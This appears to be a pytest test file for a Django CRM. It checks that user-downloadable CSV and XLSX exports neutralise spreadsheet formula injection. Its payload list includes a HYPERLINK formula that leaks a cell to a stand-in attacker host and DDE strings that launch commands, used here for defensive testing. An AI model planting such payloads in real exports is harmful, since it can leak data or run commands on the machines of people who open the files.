"""Bad input, theme 2: CSV/XLSX formula injection. Every export a user can download neutralises cells that a
spreadsheet would run (`=`, `+`, `-`, `@`, tab, carriage return at the start): the cell is kept, prefixed with `'`.
"""

import csv
import io

import pytest
from django.test import Client
from django.urls import reverse
from openpyxl import load_workbook

from forgecrm.activities.tests.factories import ActivityFactory
from forgecrm.catalog.tests.factories import PriceListFactory, ProductFactory
from forgecrm.customers.tests.factories import AccountFactory, ContactFactory
from forgecrm.platform.models import Role
from forgecrm.platform.tests.factories import UserFactory

pytestmark = pytest.mark.django_db

FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
DANGEROUS_START = ("=", "+", "-", "@", "\t", "\r")


@pytest.fixture
def admin():
    return UserFactory(role=Role.ADMIN, language="en")


@pytest.fixture
def browser(admin):
    client = Client(HTTP_ACCEPT_LANGUAGE="en")
    client.force_login(admin)
    return client


def csv_cells(response) -> list[str]:
    assert response.status_code == 200
    assert response["Content-Disposition"].startswith("attachment")
    body = b"".join(response.streaming_content) if response.streaming else response.content
    return [cell for row in csv.reader(io.StringIO(body.decode("utf-8-sig"), newline="")) for cell in row]


def xlsx_cells(response) -> list:
    assert response.status_code == 200
    body = b"".join(response.streaming_content) if response.streaming else response.content
    sheet = load_workbook(io.BytesIO(body)).active
    return [cell for row in sheet.iter_rows() for cell in row]


def assert_neutralised_csv(response, payloads):
    cells = csv_cells(response)
    for payload in payloads:
        assert "'" + payload in cells, payload
    assert not [cell for cell in cells if cell.startswith(DANGEROUS_START) and ("cmd" in cell or "=" in cell)]
    assert not [cell for cell in cells if any(cell == p for p in payloads)]


def assert_neutralised_xlsx(response, payloads):
    cells = xlsx_cells(response)
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    # XLSX stores line ends as "\n": a carriage return comes back as a line feed.
    values = [cell.value for cell in cells if isinstance(cell.value, str)]
    payloads = [payload.replace("\r", "\n") for payload in payloads]
    for payload in payloads:
        assert "'" + payload in values, payload
    assert not [value for value in values if value in payloads]


def test_account_export_csv_neutralises_every_formula_prefix(admin, browser):
    for payload in FORMULAS:
        AccountFactory(owner=admin, name=payload)
    assert_neutralised_csv(browser.get(reverse("customers:account-list"), {"export": "csv"}), FORMULAS)


def test_account_export_xlsx_has_no_formula_cells(admin, browser):
    for payload in FORMULAS:
        AccountFactory(owner=admin, name=payload, industry=payload[:60])
    assert_neutralised_xlsx(browser.get(reverse("customers:account-list"), {"export": "xlsx"}), FORMULAS)


def test_contact_export_csv_and_xlsx_neutralise_names_and_titles(admin, browser):
    account = AccountFactory(owner=admin, name="정상상사")
    for payload in FORMULAS:
        ContactFactory(account=account, owner=admin, full_name=payload[:120], title=payload[:80])
    url = reverse("customers:contact-list")
    assert_neutralised_csv(browser.get(url, {"export": "csv"}), FORMULAS)
    assert_neutralised_xlsx(browser.get(url, {"export": "xlsx"}), FORMULAS)


def test_activity_export_csv_and_xlsx_neutralise_subjects(admin, browser):
    account = AccountFactory(owner=admin, name="활동상사")
    for payload in FORMULAS:
        ActivityFactory(account=account, owner=admin, subject=payload)
    url = reverse("activities:list")
    assert_neutralised_csv(browser.get(url, {"export": "csv"}), FORMULAS)
    assert_neutralised_xlsx(browser.get(url, {"export": "xlsx"}), FORMULAS)


def test_activity_export_neutralises_an_account_name_pulled_in_by_relation(admin, browser):
    account = AccountFactory(owner=admin, name=FORMULAS[0])
    ActivityFactory(account=account, owner=admin, subject="정상 제목")
    url = reverse("activities:list")
    assert_neutralised_csv(browser.get(url, {"export": "csv"}), [FORMULAS[0]])


def test_product_export_csv_and_xlsx_neutralise_names_and_skus(admin, browser):
    for n, payload in enumerate(FORMULAS):
        ProductFactory(name=payload, sku=f"=SKU{n}+1")
    url = reverse("catalog:product-list")
    assert_neutralised_csv(browser.get(url, {"export": "csv"}), FORMULAS)
    assert_neutralised_xlsx(browser.get(url, {"export": "xlsx"}), FORMULAS)
    assert "'=SKU0+1" in csv_cells(browser.get(url, {"export": "csv"}))


def test_price_list_export_csv_and_xlsx_neutralise_names(admin, browser):
    for n, payload in enumerate(FORMULAS):
        PriceListFactory(name=payload[:120], is_default=False, segment=f"segment-{n}")
    url = reverse("catalog:price-list-list")
    assert_neutralised_csv(browser.get(url, {"export": "csv"}), FORMULAS)
    assert_neutralised_xlsx(browser.get(url, {"export": "xlsx"}), FORMULAS)


def test_plain_negative_numbers_and_korean_text_are_left_alone(admin, browser):
    AccountFactory(owner=admin, name="(주)한빛공조")
    cells = csv_cells(browser.get(reverse("customers:account-list"), {"export": "csv"}))
    assert "(주)한빛공조" in cells
